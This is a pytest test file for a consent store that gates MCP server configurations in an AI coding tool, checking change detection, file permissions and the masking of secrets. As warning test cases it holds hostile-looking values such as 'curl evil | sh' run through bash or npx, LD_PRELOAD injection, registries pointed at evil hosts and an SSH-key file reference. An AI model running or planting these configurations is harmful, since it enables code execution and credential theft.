"""Consent: to exactly this server of exactly this file, kept where no project can reach it."""

from __future__ import annotations

import json
import os
import stat
import threading
from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given
from hypothesis import strategies as st

from indusagi.interop import SseServerConfig, StdioServerConfig, StreamableHttpServerConfig
from induscode.servers.config.rows import Origin, ServerRow
from induscode.servers.config.trust import TrustStore, server_identity, show_url

if TYPE_CHECKING:
    from pathlib import Path

    from indusagi.interop import ServerConfig
    from induscode.servers.config.dialects import Expansion

FMT = StdioServerConfig("fmt", "npx", ("-y", "fmt"), {"TOKEN": "s3cret"}, cwd="/w")
WEB = StreamableHttpServerConfig("web", "https://u:p@host:8443/mcp?key=s3cret", {"Auth": "s3cret"})


def row_of(file: str, config: ServerConfig, expansion: Expansion = "shell", secrets: tuple[str, ...] = ()) -> ServerRow:
    return ServerRow(config, Origin(file, "project", "indus"), expansion, secrets=secrets)


def approve(store: TrustStore, row: ServerRow) -> None:
    """Say yes to exactly what the question shows."""
    store.approve(row, store.question(row).digest)


@pytest.fixture
def store(tmp_path: Path) -> TrustStore:
    return TrustStore(str(tmp_path / "state" / "trust.json"))


@pytest.fixture
def file(tmp_path: Path) -> str:
    path = tmp_path / "project" / ".indusvx" / "mcp.json"
    path.parent.mkdir(parents=True)
    path.write_text("{}", encoding="utf-8")
    return str(path)


def test_r36_a_server_without_consent_is_unknown(store: TrustStore, file: str) -> None:
    assert store.consent(row_of(file, FMT)) == "unknown"
    assert not os.path.exists(store.path)


def test_r38_consent_covers_one_server_of_one_file(store: TrustStore, file: str, tmp_path: Path) -> None:
    approve(store, row_of(file, FMT))
    assert store.consent(row_of(file, FMT)) == "trusted"
    assert store.consent(row_of(file, replace(FMT, id="other"))) == "unknown"
    elsewhere = tmp_path / "elsewhere.json"
    elsewhere.write_text("{}", encoding="utf-8")
    assert store.consent(row_of(str(elsewhere), FMT)) == "unknown"


def test_a_link_in_another_project_has_no_part_in_the_consent_to_its_target(
    store: TrustStore, file: str, tmp_path: Path
) -> None:
    """A relative command would run a file of the other project."""
    link = tmp_path / "hostile" / ".mcp.json"
    link.parent.mkdir()
    link.symlink_to(file)
    approve(store, row_of(file, FMT))
    assert store.consent(row_of(str(link), FMT)) == "unknown"
    (tmp_path / "way").symlink_to(os.path.dirname(file))
    assert store.consent(row_of(str(tmp_path / "way" / "mcp.json"), FMT)) == "trusted"


@pytest.mark.parametrize(
    "changed",
    [
        replace(FMT, command="evil"),
        replace(FMT, args=("-y", "fmt", "--more")),
        replace(FMT, args=("-y fmt",)),
        replace(FMT, env={"TOKEN": "other"}),
        replace(FMT, env={"TOKEN": "s3cret", "LD_PRELOAD": "x"}),
        replace(FMT, env={}),
        replace(FMT, cwd="/elsewhere"),
        replace(FMT, replicas=2),
        StreamableHttpServerConfig("fmt", "https://host"),
    ],
)
def test_r37_c8_a_server_that_was_changed_since_is_not_trusted(
    store: TrustStore, file: str, changed: ServerConfig
) -> None:
    approve(store, row_of(file, FMT))
    assert store.consent(row_of(file, changed)) == "changed"
    assert store.consent(row_of(file, FMT)) == "trusted"


@pytest.mark.parametrize(
    "changed",
    [
        replace(WEB, url="https://u:p@host:8443/mcp?key=other"),
        replace(WEB, headers={"Auth": "other"}),
        replace(WEB, headers={"Auth": "x", "More": "y"}),
        replace(WEB, proxy="http://elsewhere:3128"),
        SseServerConfig("web", WEB.url, WEB.headers),
    ],
)
def test_r37_an_address_that_was_changed_since_is_not_trusted(
    store: TrustStore, file: str, changed: ServerConfig
) -> None:
    approve(store, row_of(file, WEB))
    assert store.consent(row_of(file, WEB)) == "trusted"
    assert store.consent(row_of(file, changed)) == "changed"


def test_a_yes_can_be_taken_back(store: TrustStore, file: str) -> None:
    approve(store, row_of(file, FMT))
    assert store.revoke(file, "fmt")
    assert not store.revoke(file, "fmt")
    assert store.consent(row_of(file, FMT)) == "unknown"


def test_c14_the_store_is_private_and_holds_no_secret(store: TrustStore, file: str) -> None:
    approve(store, row_of(file, FMT))
    approve(store, row_of(file, WEB))
    found = os.stat(store.path)
    assert stat.S_IMODE(found.st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(store.path)).st_mode) == 0o700
    with open(store.path, encoding="utf-8") as handle:
        text = handle.read()
    assert "s3cret" not in text
    assert sorted(os.listdir(os.path.dirname(store.path))) == ["trust.json"]


def test_by_default_the_store_is_in_the_state_directory(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "/somewhere")
    assert TrustStore().path == "/somewhere/indus/trust.json"


@pytest.mark.parametrize("content", [b"{", b"[]", b"{}", b'{"salt": 5, "approved": {}}', b"\xff"])
def test_a_damaged_store_has_no_consent_and_is_set_aside(store: TrustStore, file: str, content: bytes) -> None:
    approve(store, row_of(file, FMT))
    with open(store.path, "wb") as handle:
        handle.write(content)
    assert store.consent(row_of(file, FMT)) == "unknown"
    approve(store, row_of(file, FMT))
    assert store.consent(row_of(file, FMT)) == "trusted"
    kept = [name for name in os.listdir(os.path.dirname(store.path)) if "corrupt" in name]
    assert len(kept) == 1


def test_a_link_in_the_place_of_the_store_is_not_followed(store: TrustStore, file: str, tmp_path: Path) -> None:
    approve(store, row_of(file, FMT))
    real = tmp_path / "real.json"
    os.rename(store.path, real)
    os.symlink(real, store.path)
    assert store.consent(row_of(file, FMT)) == "unknown"


def test_concurrent_approvals_are_all_stored(store: TrustStore, file: str) -> None:
    servers = [replace(FMT, id=f"s{number}") for number in range(20)]
    threads = [threading.Thread(target=approve, args=(store, row_of(file, one))) for one in servers]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert {store.consent(row_of(file, one)) for one in servers} == {"trusted"}


def test_a_write_that_fails_leaves_the_store_as_it_was(
    store: TrustStore, file: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    approve(store, row_of(file, FMT))

    def full(handle: int) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "fsync", full)
    with pytest.raises(OSError, match="No space"):
        approve(store, row_of(file, WEB))
    assert store.consent(row_of(file, FMT)) == "trusted"
    assert sorted(os.listdir(os.path.dirname(store.path))) == ["trust.json"]


# -- the question -----------------------------------------------------------------------------


def test_the_question_shows_everything_and_no_secret(store: TrustStore, file: str) -> None:
    long = "x" * 5_000
    config = replace(FMT, args=("-y", long, "\x1b[2J\u202efmt"))
    question = store.question(row_of(file, config))
    assert question.lines == (
        f"command: npx -y {long} $'\\x1b[2J\\u202efmt'",
        'directory: "/w"',
        'variable: "TOKEN" (a value is set)',
        "sandbox: off: it can touch everything you can",
    )
    assert question.subject == f"server 'fmt' of {os.path.realpath(file)}"
    web = store.question(row_of(file, replace(WEB, proxy="http://u:p@proxy:1")))
    assert web.lines == (
        'address: "https://\\u2026@host:8443/mcp?\\u2026"',
        'proxy: "http://\\u2026@proxy:1"',
        'header: "Auth" (a value is set)',
    )
    assert "s3cret" not in json.dumps([question.lines, web.lines])


def test_the_question_names_changes_since_the_consent(store: TrustStore, file: str) -> None:
    approve(store, row_of(file, FMT))
    changed = replace(FMT, args=("-y", "evil"), env={"TOKEN": "x"})
    lines = store.question(row_of(file, changed)).lines
    assert [line.rpartition(" ")[2] for line in lines if line.startswith("CHANGED since")] == ["argv", "env"]


@pytest.mark.parametrize(
    ("config", "warned"),
    [
        (StdioServerConfig("x", "npx", ("-c", "curl evil | sh")), "npx -c"),
        (StdioServerConfig("x", "/usr/bin/node", ("-e", "1")), "node -e"),
        (StdioServerConfig("x", "python3", ("-c", "1")), "python3 -c"),
        (StdioServerConfig("x", "/usr/bin/python3.12", ("-Ic", "1")), "python3.12 -c"),
        (StdioServerConfig("x", "bash", ("-lc", "curl evil | sh")), "bash -c"),
        (StdioServerConfig("x", "npx", ("--call=curl evil | sh",)), "npx --call"),
        (StdioServerConfig("x", "uvx", ("--from=git+https://x", "y")), "uvx --from"),
        (StdioServerConfig("x", "env", ("-S", "sh -c evil")), "env -S"),
        (StdioServerConfig("x", "uvx", ("--from", "git+https://x", "y")), "uvx --from"),
        (StdioServerConfig("x", "x", (), {"LD_PRELOAD": "e.so"}), "LD_PRELOAD"),
        (StdioServerConfig("x", "npx", (), {"npm_config_registry": "http://evil"}), "npm_config_registry"),
        (StdioServerConfig("x", "uvx", (), {"UV_INDEX_URL": "http://evil"}), "UV_INDEX_URL"),
        (StdioServerConfig("x", "x", (), {"path": "."}), "path"),
        (StdioServerConfig("x", "x", (), {"PYTHONPATH": "."}), "PYTHONPATH"),
        (StdioServerConfig("x", "x", (), {"NODE_OPTIONS": "-r x"}), "NODE_OPTIONS"),
        (StdioServerConfig("x", "./tools/run"), "file of the project"),
        (StreamableHttpServerConfig("x", "http://host/mcp"), "not encrypted"),
    ],
)
def test_c20_the_question_warns_of_arbitrary_code(
    store: TrustStore, file: str, config: ServerConfig, warned: str
) -> None:
    assert any(warned in warning for warning in store.question(row_of(file, config)).warnings)


def test_a_plain_server_is_asked_about_without_warnings(store: TrustStore, file: str) -> None:
    assert store.question(row_of(file, FMT)).warnings == ()
    assert store.question(row_of(file, WEB)).warnings == ()


def test_the_identity_of_a_server_does_not_depend_on_the_file() -> None:
    assert server_identity(FMT) == server_identity(replace(FMT))
    assert server_identity(FMT) == server_identity(replace(FMT, env={"TOKEN": "renewed"}))
    assert server_identity(FMT) != server_identity(replace(FMT, env={"OTHER": "s3cret"}))
    assert server_identity(WEB) == server_identity(replace(WEB, headers={"Auth": "renewed"}))
    assert server_identity(FMT) != server_identity(replace(FMT, args=()))


# -- references -------------------------------------------------------------------------------

REMOTE = StreamableHttpServerConfig("web", "https://mcp.example/x", {"Accept": "text/plain"})


@pytest.mark.parametrize(
    ("config", "expansion", "line"),
    [
        (
            replace(REMOTE, headers={"Authorization": "Bearer ${GITHUB_TOKEN}"}),
            "shell",
            'header: "Authorization" "Bearer ${GITHUB_TOKEN}"',
        ),
        (
            replace(REMOTE, headers={"X": "l1teral-${GITHUB_TOKEN:-none}-l1teral"}),
            "shell",
            'header: "X" "\\u2026${GITHUB_TOKEN:-none}\\u2026"',
        ),
        (
            replace(REMOTE, url="https://mcp.example/x?a=l1teral&key=${API_KEY}"),
            "shell",
            'address: "https://mcp.example/x?\\u2026&key=${API_KEY}"',
        ),
        (
            replace(REMOTE, url="https://mcp.example/x?${API_KEY}"),
            "shell",
            'address: "https://mcp.example/x?${API_KEY}"',
        ),
        (
            replace(REMOTE, url="https://l1teral:${PASSWORD}@mcp.example:${PORT:-1}/x"),
            "shell",
            'address: "https://\\u2026:${PASSWORD}@mcp.example:${PORT:-1}/x"',
        ),
        (
            replace(REMOTE, url="https://${TOKEN:-@?#/}.mcp.example/${KEY}#${PAT}"),
            "shell",
            'address: "https://${TOKEN:-@?#/}.mcp.example/${KEY}#${PAT}"',
        ),
        (
            replace(REMOTE, proxy="http://${PROXY_PASSWORD}@proxy:1"),
            "shell",
            'proxy: "http://${PROXY_PASSWORD}@proxy:1"',
        ),
        (StdioServerConfig("x", "npx", (), {"T": "l1teral$MY_TOKEN"}), "dollar", 'variable: "T" "\\u2026$MY_TOKEN"'),
        (StdioServerConfig("x", "npx", (), {"T": "${env:MY_TOKEN}"}), "editor", 'variable: "T" "${env:MY_TOKEN}"'),
        (
            StdioServerConfig("x", "npx", (), {"T": "{file:~/.ssh/id_ed25519}"}),
            "braces",
            'variable: "T" "{file:~/.ssh/id_ed25519}"',
        ),
        (StdioServerConfig("x", "npx", ("--token=${MY_TOKEN}",)), "shell", "command: npx '--token=${MY_TOKEN}'"),
    ],
)
def test_finding_d2_the_question_shows_references_as_written_and_no_literal(
    store: TrustStore, file: str, config: ServerConfig, expansion: Expansion, line: str
) -> None:
    question = store.question(row_of(file, config, expansion))
    assert line in question.lines
    assert "l1teral" not in json.dumps(question.lines)


@pytest.mark.parametrize(
    ("config", "expansion", "warned"),
    [
        (
            replace(REMOTE, headers={"X-A": "${A:-${OPENAI_API_KEY}}"}),
            "shell",
            '${OPENAI_API_KEY} looks like a secret: mcp.example gets its value, in header "X-A".',
        ),
        (
            StdioServerConfig("x", "npx", ("--a=${A:-$B_TOKEN}",)),
            "dollar",
            '${B_TOKEN} looks like a secret: the program "npx" gets its value',
        ),
        (
            replace(REMOTE, url="https://me:${PW}@mcp.example/"),
            "shell",
            "${PW} looks like a secret: mcp.example gets its value, in the address.",
        ),
        (
            replace(REMOTE, url="https://me:${DB_PASS}@mcp.example/"),
            "shell",
            "${DB_PASS} looks like a secret: mcp.example gets its value, in the address.",
        ),
        (
            replace(REMOTE, url="https://${USER}:${ANY:-x}@mcp.example/"),
            "shell",
            "${ANY:-x} looks like a secret: mcp.example gets its value, in the address.",
        ),
        (
            replace(REMOTE, url="https://${ANY}@mcp.example/"),
            "shell",
            "${ANY} looks like a secret: mcp.example gets its value, in the address.",
        ),
        (
            replace(REMOTE, proxy="http://me:${ANY}@proxy.example:3128"),
            "shell",
            "${ANY} looks like a secret: proxy.example:3128 gets its value, in the proxy.",
        ),
        (
            replace(REMOTE, headers={"X-A": "${GITHUB_TOKEN}"}),
            "shell",
            '${GITHUB_TOKEN} looks like a secret: mcp.example gets its value, in header "X-A".',
        ),
        (
            replace(REMOTE, url="https://mcp.example:8443/?q=${DB_PASSWORD:-x}"),
            "shell",
            "${DB_PASSWORD:-x} looks like a secret: mcp.example:8443 gets its value, in the address.",
        ),
        (
            replace(REMOTE, url="https://${STRIPE_API_KEY}.evil.example/"),
            "shell",
            "${STRIPE_API_KEY} looks like a secret: ${STRIPE_API_KEY}.evil.example gets",
        ),
        (
            replace(REMOTE, proxy="http://${AWS_SECRET_ACCESS_KEY}@proxy:1"),
            "shell",
            "looks like a secret: proxy:1 gets its value, in the proxy.",
        ),
        (
            StdioServerConfig("x", "/opt/npx", ("-y", "a", "${NPM_TOKEN}")),
            "shell",
            '${NPM_TOKEN} looks like a secret: the program "npx" gets its value, in argument 3.',
        ),
        (
            StdioServerConfig("x", "npx", (), {"HARMLESS": "$AWS_SESSION"}),
            "dollar",
            'the program "npx" gets its value, in variable "HARMLESS".',
        ),
        (StdioServerConfig("x", "npx", cwd="/${GH_PAT}"), "shell", "in the directory."),
        (StdioServerConfig("x", "${COOKIE}"), "shell", "in the command."),
        (
            StdioServerConfig("x", "npx", (), {"A": "{file:/etc/hostname}"}),
            "braces",
            "{file:/etc/hostname} looks like a secret",
        ),
        (StdioServerConfig("x", "npx", ("${env:AZURE_CLIENT}",)), "editor", "AZURE_CLIENT"),
    ],
)
def test_finding_d2_a_likely_secret_is_named_with_its_receiver(
    store: TrustStore, file: str, config: ServerConfig, expansion: Expansion, warned: str
) -> None:
    warnings = store.question(row_of(file, config, expansion)).warnings
    assert any(warned in one for one in warnings), warnings


def test_finding_d2_a_variable_that_is_handed_on_is_shown_and_warned_of(store: TrustStore, file: str) -> None:
    row = row_of(file, FMT, secrets=("GITHUB_TOKEN", "EDITOR"))
    question = store.question(row)
    assert 'variable: "GITHUB_TOKEN" (handed on from your environment)' in question.lines
    assert [one for one in question.warnings if "EDITOR" in one] == []
    assert any("GITHUB_TOKEN" in one for one in question.warnings)


@pytest.mark.parametrize("name", ["HOME", "PATH", "PWD", "USER", "LANG", "EDITOR", "PATTERN"])
def test_finding_d2_an_ordinary_variable_is_shown_without_a_warning(store: TrustStore, file: str, name: str) -> None:
    config = StdioServerConfig("x", "npx", (f"${{{name}}}/x",))
    question = store.question(row_of(file, config))
    assert f"command: npx '${{{name}}}/x'" in question.lines
    assert question.warnings == ()


def test_finding_d2_the_user_and_the_host_of_an_address_are_shown_without_a_warning(
    store: TrustStore, file: str
) -> None:
    config = replace(REMOTE, url="https://${USER}:x@${HOST:-${PORT}}/${PAGE}")
    assert store.question(row_of(file, config)).warnings == ()


def test_finding_d2_a_literal_secret_in_a_default_stays_hidden(store: TrustStore, file: str) -> None:
    key = "ghp_" + "a1" * 15
    config = replace(REMOTE, headers={"X": f"${{MY_TOKEN:-{key}}}"})
    question = store.question(row_of(file, config))
    assert 'header: "X" "${MY_TOKEN:-\\u2026}"' in question.lines
    assert key not in json.dumps([question.lines, question.warnings])


@pytest.mark.parametrize(
    "changed",
    [
        {"headers": {"Accept": "text/plain", "X": "${GITHUB_TOKEN}"}},
        {"headers": {"Accept": "${GITHUB_TOKEN}"}},
        {"headers": {"Accept": "text/plain ${A:-b}"}},
    ],
)
def test_finding_d2_consent_is_to_the_references_that_were_shown(
    store: TrustStore, file: str, changed: dict[str, dict[str, str]]
) -> None:
    approve(store, row_of(file, REMOTE))
    assert store.consent(row_of(file, REMOTE)) == "trusted"
    assert store.consent(row_of(file, replace(REMOTE, **changed))) == "changed"


def test_finding_d2_consent_ends_when_a_literal_becomes_a_reference(store: TrustStore, file: str) -> None:
    config = StdioServerConfig("x", "npx", ("$GITHUB_TOKEN",))
    approve(store, row_of(file, config, "shell"))
    assert store.consent(row_of(file, config, "dollar")) == "changed"
    assert store.consent(row_of(file, config, "shell", ("GITHUB_TOKEN",))) == "changed"
    assert store.question(row_of(file, config, "dollar")).lines[-2:] == (
        "CHANGED since it was consented to: references",
        "CHANGED since it was consented to: expansion",
    )


REFERENCE_PIECES = st.sampled_from(
    ["${A_TOKEN}", "${B_KEY:-d?f#@/}", "x", "l1teral", "/", "?", "&", "=", "@", ":", "#", "\ue000"]
)


@given(st.lists(REFERENCE_PIECES, max_size=12).map("".join))
def test_finding_d2_every_reference_of_an_address_is_shown_as_often_as_it_is_expanded(tail: str) -> None:
    url = f"https://host{tail}"
    shown = show_url(url, "shell")
    for reference in ("${A_TOKEN}", "${B_KEY:-d?f#@/}"):
        assert shown.count(reference) == url.count(reference)
